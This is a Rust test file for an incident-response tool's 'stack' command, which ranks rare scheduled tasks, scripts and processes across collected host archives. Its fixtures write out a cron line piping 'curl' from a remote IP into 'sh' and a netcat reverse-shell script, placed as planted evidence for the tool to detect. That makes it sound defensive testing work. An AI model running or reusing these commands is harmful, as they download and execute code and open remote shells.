//! `irsnap stack`: archives collected from offline roots standing for a small fleet (one
//! benign crontab and one staged script on every host, one malicious cron line and one
//! unique script on one host), plus the live host's process snapshot.

use crate::harness::{RootBuilder, collect, irsnap};
use serde_json::Value;
use std::path::{Path, PathBuf};

const COMMON_CRON: &str = "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n";
const EVIL_CRON: &str = "*/5 * * * * root curl -s http://203.0.113.7/x | sh\n";
const COMMON_SCRIPT: &[u8] = b"#!/bin/sh\n# fleet-wide helper\nlogger -t cleanup done\n";
const RARE_SCRIPT: &[u8] = b"#!/bin/sh\nnc -e /bin/sh 203.0.113.7 4444\n";

/// Collectors a root needs here, so each run is quick.
fn profile(dir: &Path) -> PathBuf {
    let p = dir.join("stack-test.toml");
    std::fs::write(
        &p,
        "name = \"stack-test\"\ndescription = \"test\"\n\
         [collectors.scheduled_tasks]\n[collectors.temp_scripts]\n",
    )
    .unwrap();
    p
}

fn linux_root(hostname: &str, evil: bool) -> RootBuilder {
    let root = RootBuilder::new();
    root.write("etc/hostname", format!("{hostname}\n").as_bytes());
    let mut crontab = String::from("SHELL=/bin/sh\n");
    crontab.push_str(COMMON_CRON);
    if evil {
        crontab.push_str(EVIL_CRON);
        // Terminal escapes in a command line must not reach the analyst's terminal.
        crontab.push_str("@reboot root /bin/echo \x1b]0;owned\x07\x1b[2J\n");
    }
    root.write("etc/crontab", crontab.as_bytes());
    root.write("tmp/cleanup.sh", COMMON_SCRIPT);
    if evil {
        root.write("var/tmp/.cache/.x", RARE_SCRIPT);
    }
    root
}

/// Collect `root` into `out`; returns the archive path.
fn collect_root(root: &Path, out: &Path, profile: &Path) -> PathBuf {
    let (run, archive) = collect(
        out,
        &[
            "--root",
            root.to_str().unwrap(),
            "--profile",
            profile.to_str().unwrap(),
        ],
    );
    archive
        .unwrap_or_else(|| panic!("no archive: {}", run.stderr))
        .path
}

struct Fleet {
    _dirs: Vec<tempfile::TempDir>,
    archives: Vec<PathBuf>,
    live_host: String,
}

fn fleet() -> Fleet {
    let work = tempfile::tempdir().unwrap();
    let prof = profile(work.path());
    let mut archives = Vec::new();
    let mut dirs = Vec::new();
    for (name, evil) in [
        ("stk-alpha", false),
        ("stk-beta", false),
        ("stk-gamma", true),
    ] {
        let root = linux_root(name, evil);
        let out = tempfile::tempdir().unwrap();
        archives.push(collect_root(root.path(), out.path(), &prof));
        dirs.push(out);
    }
    // The live host: processes only (its temp dirs would hold these very test roots).
    let out = tempfile::tempdir().unwrap();
    let (run, live) = collect(out.path(), &["--profile", "volatile"]);
    let mut live = live.unwrap_or_else(|| panic!("no live archive: {}", run.stderr));
    let live_host = live.manifest()["host"]["hostname"]
        .as_str()
        .unwrap_or("(no hostname)")
        .to_string();
    archives.push(live.path.clone());
    dirs.push(out);
    dirs.push(work);
    Fleet {
        _dirs: dirs,
        archives,
        live_host,
    }
}

fn stack_json(args: &[&str]) -> (i32, Vec<Value>, String) {
    let mut all = vec!["stack", "--json"];
    all.extend_from_slice(args);
    let run = irsnap(&all);
    let lines = run
        .stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{l}: {e}")))
        .collect();
    (run.code, lines, run.stderr)
}

fn position(entries: &[Value], kind: &str, pred: impl Fn(&str) -> bool) -> usize {
    entries
        .iter()
        .position(|e| e["kind"] == kind && pred(e["key"].as_str().unwrap()))
        .unwrap_or_else(|| panic!("no {kind} entry matching"))
}

fn hostnames(e: &Value) -> Vec<String> {
    e["hosts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h["hostname"].as_str().unwrap().to_string())
        .collect()
}

fn sha_hex(data: &[u8]) -> String {
    irsnap::record::Sha256::digest(data).to_hex()
}

#[test]
fn rare_entries_come_first_with_their_host() {
    let fleet = fleet();
    let paths: Vec<&str> = fleet.archives.iter().map(|p| p.to_str().unwrap()).collect();
    let (code, entries, stderr) = stack_json(&paths);
    assert_eq!(code, 0, "{stderr}");
    assert!(
        stderr.contains("stacked 4 archive(s) from 4 host(s)"),
        "{stderr}"
    );

    // Rarest first: host counts never go down along the output.
    let counts: Vec<u64> = entries
        .iter()
        .map(|e| e["host_count"].as_u64().unwrap())
        .collect();
    assert!(counts.windows(2).all(|w| w[0] <= w[1]), "{counts:?}");

    let evil = position(&entries, "scheduled_action", |k| k.contains("curl"));
    let common = position(&entries, "scheduled_action", |k| k.contains("run-parts"));
    assert!(evil < common);
    // Detection flagged the curl | sh line: the key says so; the common line has nothing.
    assert!(
        matches!(entries[evil]["finding"].as_str(), Some("high" | "critical")),
        "{}",
        entries[evil]
    );
    assert!(entries[common].get("finding").is_none());
    assert_eq!(entries[evil]["host_count"], 1);
    assert_eq!(entries[evil]["occurrences"], 1);
    assert_eq!(hostnames(&entries[evil]), ["stk-gamma"]);
    assert!(
        entries[evil]["hosts"][0]["archive"]
            .as_str()
            .unwrap()
            .starts_with("stk-gamma_")
    );
    // The key is the shape (the IP collapsed); the example keeps the line as written.
    assert_eq!(
        entries[evil]["key"],
        "cron: curl -s http://<n>.<n>.<n>.<n>/x | sh"
    );
    assert!(
        entries[evil]["example"]
            .as_str()
            .unwrap()
            .contains("203.0.113.7")
    );
    assert_eq!(entries[common]["host_count"], 3);
    let mut on = hostnames(&entries[common]);
    on.sort();
    assert_eq!(on, ["stk-alpha", "stk-beta", "stk-gamma"]);

    let rare_hash = sha_hex(RARE_SCRIPT);
    let common_hash = sha_hex(COMMON_SCRIPT);
    let rare = position(&entries, "temp_script_hash", |k| k == rare_hash);
    let shared = position(&entries, "temp_script_hash", |k| k == common_hash);
    assert!(rare < shared);
    assert_eq!(entries[rare]["host_count"], 1);
    assert_eq!(hostnames(&entries[rare]), ["stk-gamma"]);
    assert!(entries[rare]["example"].as_str().unwrap().ends_with("/.x"));
    assert_eq!(entries[shared]["host_count"], 3);

    // The live host's processes are stacked, with their parents; the collecting irsnap
    // itself is not (its command line names its own output directory).
    let live_out = fleet.archives[3].parent().unwrap().to_str().unwrap();
    let live: Vec<&Value> = entries
        .iter()
        .filter(|e| e["kind"] == "process" && hostnames(e) == [fleet.live_host.as_str()])
        .collect();
    assert!(!live.is_empty());
    assert!(
        live.iter()
            .any(|e| e["distinct_parents"].as_u64().unwrap_or(0) >= 1)
    );
    assert!(
        !entries
            .iter()
            .any(|e| e["example"].as_str().is_some_and(|x| x.contains(live_out))),
        "irsnap's own process was stacked"
    );
    position(&entries, "parent_child", |k| k.contains(" -> "));
    // Parent counts belong to process/image keys only.
    assert!(
        entries
            .iter()
            .filter(|e| e["kind"] == "scheduled_action")
            .all(|e| e.get("distinct_parents").is_none())
    );

    // --kind and --top narrow the output; the table escapes and names hosts.
    let (_, only, _) =
        stack_json(&[&["--kind", "scheduled_action", "--top", "1"], &paths[..]].concat());
    assert_eq!(only.len(), 1);
    assert_eq!(only[0]["kind"], "scheduled_action");
    assert_eq!(only[0]["host_count"], 1);
    assert_eq!(hostnames(&only[0]), ["stk-gamma"]);
    let (_, flagged, _) = stack_json(&[&["--with-findings"], &paths[..]].concat());
    assert!(!flagged.is_empty());
    assert!(flagged.iter().all(|e| e.get("finding").is_some()));
    let table = irsnap(&[&["stack", "--kind", "temp_script_hash"], &paths[..]].concat());
    assert_eq!(table.code, 0);
    assert!(table.stdout.starts_with("HOSTS"));
    let first_row = table.stdout.lines().nth(1).unwrap();
    assert!(first_row.contains(&rare_hash), "{}", table.stdout);
    assert!(table.stdout.lines().nth(2).unwrap().contains("stk-gamma ("));

    // A second archive of one host: still three hosts, occurrences add up.
    let again = tempfile::tempdir().unwrap();
    let prof = profile(again.path());
    let root = linux_root("STK-Alpha", false);
    let second = collect_root(root.path(), again.path(), &prof);
    let mut more = paths.clone();
    more.push(second.to_str().unwrap());
    let (code, entries, stderr) = stack_json(&more);
    assert_eq!(code, 0, "{stderr}");
    assert!(
        stderr.contains("stacked 5 archive(s) from 4 host(s)"),
        "{stderr}"
    );
    let common = position(&entries, "scheduled_action", |k| k.contains("run-parts"));
    assert_eq!(entries[common]["host_count"], 3);
    assert_eq!(entries[common]["occurrences"], 4);
}

#[test]
fn corrupt_and_encrypted_archives_are_skipped_and_reported() {
    let work = tempfile::tempdir().unwrap();
    let prof = profile(work.path());
    let out = tempfile::tempdir().unwrap();
    let a = collect_root(linux_root("stk-one", true).path(), out.path(), &prof);
    let out2 = tempfile::tempdir().unwrap();
    let b = collect_root(linux_root("stk-two", false).path(), out2.path(), &prof);

    // Garbage named like an archive, and a real archive cut in half.
    let garbage = work.path().join("garbage.zip");
    std::fs::write(&garbage, b"PK\x03\x04 this is not a zip").unwrap();
    let cut = work.path().join("cut.zip");
    let bytes = std::fs::read(&b).unwrap();
    std::fs::write(&cut, &bytes[..bytes.len() / 2]).unwrap();
    // A readable manifest but a damaged records member: nothing of it may count.
    let out3 = tempfile::tempdir().unwrap();
    let c = collect_root(linux_root("stk-three", false).path(), out3.path(), &prof);
    let damaged = work.path().join("damaged.zip");
    std::fs::write(
        &damaged,
        damage_member(&std::fs::read(&c).unwrap(), "records/scheduled_tasks.jsonl"),
    )
    .unwrap();
    let age = work.path().join("enc.zip.age");
    std::fs::write(&age, b"age-encryption.org/v1\n-> X25519 abc\n").unwrap();

    let (code, entries, stderr) = stack_json(&[
        garbage.to_str().unwrap(),
        a.to_str().unwrap(),
        cut.to_str().unwrap(),
        age.to_str().unwrap(),
        damaged.to_str().unwrap(),
        b.to_str().unwrap(),
    ]);
    assert_eq!(code, 2, "{stderr}");
    assert!(
        stderr.contains("damaged.zip: records/scheduled_tasks.jsonl"),
        "{stderr}"
    );
    assert!(
        stderr.contains("skipped") && stderr.contains("garbage.zip"),
        "{stderr}"
    );
    assert!(stderr.contains("cut.zip"), "{stderr}");
    assert!(
        stderr.contains("enc.zip.age is encrypted with age: give --identity FILE"),
        "{stderr}"
    );
    assert!(
        stderr.contains("stacked 2 archive(s) from 2 host(s); 4 skipped"),
        "{stderr}"
    );
    let common = position(&entries, "scheduled_action", |k| k.contains("run-parts"));
    assert_eq!(entries[common]["host_count"], 2);
    let evil = position(&entries, "scheduled_action", |k| k.contains("curl"));
    assert_eq!(hostnames(&entries[evil]), ["stk-one"]);

    let table = irsnap(&["stack", a.to_str().unwrap()]);
    assert_eq!(table.code, 0, "{}", table.stderr);
    assert!(
        table.stdout.contains("/bin/echo \\u{1b}]0;owned"),
        "{}",
        table.stdout
    );
    assert!(!table.stdout.contains('\x1b') && !table.stdout.contains('\x07'));

    // A directory stands for the archives in it (sidecars are not archives).
    let (code, entries, stderr) =
        stack_json(&[out.path().to_str().unwrap(), out2.path().to_str().unwrap()]);
    assert_eq!(code, 0, "{stderr}");
    let common = position(&entries, "scheduled_action", |k| k.contains("run-parts"));
    assert_eq!(entries[common]["host_count"], 2);
    assert!(stderr.contains("stacked 2 archive(s)"), "{stderr}");

    // Nothing readable at all: failure.
    let (code, entries, _) = stack_json(&[garbage.to_str().unwrap()]);
    assert_eq!(code, 1);
    assert!(entries.is_empty());
}

/// Overwrite the middle of a member's compressed data (found through the central directory:
/// the writer streams, so local headers carry no sizes).
fn damage_member(zip: &[u8], member: &str) -> Vec<u8> {
    let u16_at = |i: usize| u16::from_le_bytes([zip[i], zip[i + 1]]) as usize;
    let u32_at = |i: usize| u32::from_le_bytes(zip[i..i + 4].try_into().unwrap()) as usize;
    let name = member.as_bytes();
    let cd = (0..zip.len() - 46)
        .find(|&i| zip[i..i + 4] == *b"PK\x01\x02" && zip[i + 46..].starts_with(name))
        .expect("central directory entry");
    let size = u32_at(cd + 20);
    let local = u32_at(cd + 42);
    assert!(size > 16, "member too small to damage: {size}");
    let data = local + 30 + u16_at(local + 26) + u16_at(local + 28);
    let mut out = zip.to_vec();
    for b in &mut out[data + size / 2 - 4..data + size / 2 + 4] {
        *b ^= 0x5a;
    }
    out
}

/// Task XML as Task Scheduler writes it (UTF-8 here; the parser takes UTF-16 too).
fn task_xml(command: &str) -> Vec<u8> {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n\
         <Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\
         <RegistrationInfo><URI>\\Updater</URI></RegistrationInfo>\
         <Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger></Triggers>\
         <Actions Context=\"Author\"><Exec><Command>{command}</Command>\
         <Arguments>/silent</Arguments></Exec></Actions></Task>"
    )
    .into_bytes()
}

#[test]
fn windows_shapes_stack_across_users_case_and_guids() {
    let work = tempfile::tempdir().unwrap();
    let prof = profile(work.path());
    let mut paths = Vec::new();
    let mut dirs = Vec::new();
    for cmd in [
        r"C:\Users\alice\AppData\Local\Temp\{0C1F2A3B-4D5E-6F70-8192-A3B4C5D6E7F8}\upd.exe",
        r"c:\users\BOB\appdata\local\temp\{9ABCDEF0-1234-5678-9ABC-DEF012345678}\UPD.EXE",
    ] {
        let root = RootBuilder::new();
        root.mkdir("Windows/System32/config");
        root.write("Windows/System32/Tasks/Updater", &task_xml(cmd));
        let out = tempfile::tempdir().unwrap();
        paths.push(collect_root(root.path(), out.path(), &prof));
        dirs.push(out);
    }
    let args: Vec<&str> = paths.iter().map(|p| p.to_str().unwrap()).collect();
    let (code, entries, stderr) = stack_json(&args);
    assert_eq!(code, 0, "{stderr}");
    let upd: Vec<&Value> = entries
        .iter()
        .filter(|e| e["key"].as_str().unwrap().contains("upd.exe"))
        .collect();
    assert_eq!(upd.len(), 1, "{entries:?}");
    assert_eq!(
        upd[0]["key"],
        r"windows_task: c:\users\<user>\appdata\local\temp\{<guid>}\upd.exe /silent"
    );
    // No hostname in an offline Windows root: each archive is its own host.
    assert_eq!(upd[0]["host_count"], 2);
}

/// What ran before the snapshot stacks too: Sysmon 1 process starts from an offline Windows
/// root give the same kinds of keys (image, process, parent -> child, image hash) as a live
/// process list.
#[test]
fn logged_process_starts_are_stacked() {
    let root = RootBuilder::new();
    root.mkdir("Windows/System32");
    root.copy(
        "Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx",
        &crate::harness::fixture(
            "evtx/sysmon/museum-win10-aptsimulator/Microsoft-Windows-Sysmon%4Operational.evtx",
        ),
    );
    let out = tempfile::tempdir().unwrap();
    let prof = out.path().join("p.toml");
    std::fs::write(
        &prof,
        "name = \"x\"\ndescription = \"x\"\n[collectors.execution_events]\n",
    )
    .unwrap();
    let a = collect_root(root.path(), out.path(), &prof);
    let (code, entries, stderr) = stack_json(&[a.to_str().unwrap()]);
    assert_eq!(code, 0, "{stderr}");
    for kind in ["image", "process", "parent_child", "image_hash"] {
        let n = entries.iter().filter(|e| e["kind"] == kind).count();
        assert!(n > 10, "{kind}: {n} keys");
    }
    // Windows shapes are lower case; an image is keyed by its path.
    position(&entries, "image", |k| k.ends_with("\\cmd.exe"));
    assert!(
        entries.iter().any(|e| e.get("finding").is_some()),
        "flagged keys"
    );
}
